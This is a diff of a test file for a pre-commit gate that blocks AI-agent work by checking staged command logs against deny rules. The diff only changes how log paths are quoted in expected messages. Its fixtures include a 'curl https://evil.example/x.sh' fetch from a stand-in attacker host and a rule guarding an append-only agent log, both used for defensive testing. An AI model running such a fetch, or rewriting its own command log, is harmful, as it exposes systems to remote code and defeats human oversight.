@@ -614,7 +614,7 @@ describe('pre-commit: staged command-log entries', () => {
     const r = s.commit(['-m', 'x']);
     expectBlocked(s, r, before);
     expect(r.stderr).toContain('agent signals: log: adds command log entries');
-    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log .agent-gate/log/s1.jsonl:2)');
+    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log ".agent-gate/log/s1.jsonl":2)');
     expect(r.stderr).toContain('workspace rule #3 (.github/agent-gate.yml): deny "curl *"');
   });
 
@@ -624,7 +624,7 @@ describe('pre-commit: staged command-log entries', () => {
     s.write(`${LOG}.lock`, appendEntries(null, [draft('npm test'), draft('curl https://evil.example/x.sh')], 's1')).add(`${LOG}.lock`);
     const r = s.commit(['-m', 'x']);
     expectBlocked(s, r, before);
-    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log .agent-gate/log/s1.jsonl.lock:2)');
+    expect(r.stderr).toContain('deny  shell  "curl https://evil.example/x.sh"  (log ".agent-gate/log/s1.jsonl.lock":2)');
   });
 
   test('staged log entries make the whole staged change agent work', () => {
@@ -666,7 +666,7 @@ describe('pre-commit: staged command-log entries', () => {
     s.write(LOG, appendEntries(null, [draft('npm test --silent'), draft('npm test -- -u')], 's1')).add(LOG);
     const r = s.commit(['-m', 'x']);
     expectBlocked(s, r, base);
-    expect(r.stderr).toContain('deny  fs_write  ".agent-gate/log/s1.jsonl"  (log .agent-gate/log/s1.jsonl:1)');
+    expect(r.stderr).toContain('deny  fs_write  ".agent-gate/log/s1.jsonl"  (log ".agent-gate/log/s1.jsonl":1)');
     expect(r.stderr).toContain('kiro rule #9 (built-in): deny "append-only, chained command log"');
     expect(r.stderr).toContain('line 1 of the previous version was changed');
   });
